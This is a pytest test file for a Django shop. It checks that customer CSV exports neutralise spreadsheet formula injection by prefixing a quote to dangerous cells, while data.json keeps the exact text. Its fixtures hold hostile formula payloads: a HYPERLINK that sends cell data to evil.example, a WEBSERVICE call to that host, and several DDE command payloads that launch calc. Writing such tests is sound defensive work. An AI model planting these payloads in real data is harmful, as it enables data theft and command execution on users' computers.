"""The CSVs of a customer's export are opened in spreadsheets: what was typed into the shop
must not run as a formula there, and every value must sit under its own column."""

import csv
import io
import json
import zipfile
from decimal import Decimal

import pytest
from django.utils import timezone

from tests.consent.helpers import API, stepped_up
from tests.testapp.models import Address, Order

pytestmark = pytest.mark.django_db
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

FIRST_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Ana")'
LAST_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
STREET = "+cmd|' /C calc'!A0"
PHONE = "-2+3+cmd|' /C calc'!A0"
NOTE = '\t=WEBSERVICE("http://evil.example/")'
GATE_CODE = "\r=1+1"
SAFE_STREET = "Trg 1 = center, 1000 Ljubljana"  # dangerous characters, but not the first


@pytest.fixture
def hostile_data(customer):
    customer.first_name, customer.last_name = FIRST_NAME, LAST_NAME
    customer.save()
    Address.objects.create(customer=customer, street=STREET, phone=PHONE)
    Address.objects.create(customer=customer, street=SAFE_STREET, phone=GATE_CODE)
    Order.objects.create(
        customer=customer,
        number="LC-1",
        placed_at=timezone.now(),
        total=Decimal("-5.00"),  # a refund: a number, written as it is
        delivery_note=NOTE,
    )
    return customer


def exported_archive(customer, capture):
    client = stepped_up(customer)
    with capture(execute=True):
        export_id = client.post(f"{API}/me/exports/").json()["id"]
    url = client.get(f"{API}/me/exports/{export_id}/").json()["download_url"]
    archive = client.get(url)
    assert archive.status_code == 200
    return zipfile.ZipFile(io.BytesIO(b"".join(archive.streaming_content)))


def test_export_csvs_are_inert_in_a_spreadsheet_and_aligned(
    hostile_data, django_capture_on_commit_callbacks
):
    zf = exported_archive(hostile_data, django_capture_on_commit_callbacks)
    files = {
        name.removesuffix(".csv"): list(
            csv.reader(io.StringIO(zf.read(name).decode("utf-8-sig"), newline=""))
        )
        for name in zf.namelist()
        if name.endswith(".csv")
    }
    assert {"account", "addresses", "orders"} <= set(files)
    for name, (header, *rows) in files.items():
        assert [len(row) for row in rows] == [len(header)] * len(rows), name
        for row in [header, *rows]:
            for column, cell in zip(header, row, strict=True):
                if (name, column) != ("orders", "Total"):
                    assert not cell.startswith(DANGEROUS), (name, column, cell)

    def records(name):
        header, *rows = files[name]
        return [dict(zip(header, row, strict=True)) for row in rows]

    [account] = records("account")
    assert (account["First name"], account["Last name"]) == ("'" + FIRST_NAME, "'" + LAST_NAME)
    assert account["Email address"] == "ana@example.com"
    assert sorted((a["Street"], a["Phone"]) for a in records("addresses")) == sorted(
        [("'" + STREET, "'" + PHONE), (SAFE_STREET, "'" + GATE_CODE)]
    )
    [order] = records("orders")
    assert order["Number"] == "LC-1"
    assert order["Total"] == "-5.00"  # numbers are not text: unchanged
    assert order["Delivery note"] == "'" + NOTE
    assert order["Placed at"][:2] == "20"

    # Only the CSVs carry the quote: data.json is for machines and keeps the exact text.
    sources = {s["name"]: s for s in json.loads(zf.read("data.json"))["sources"]}
    assert sources["account"]["records"][0]["first_name"] == FIRST_NAME
    assert {r["street"] for r in sources["addresses"]["records"]} == {STREET, SAFE_STREET}
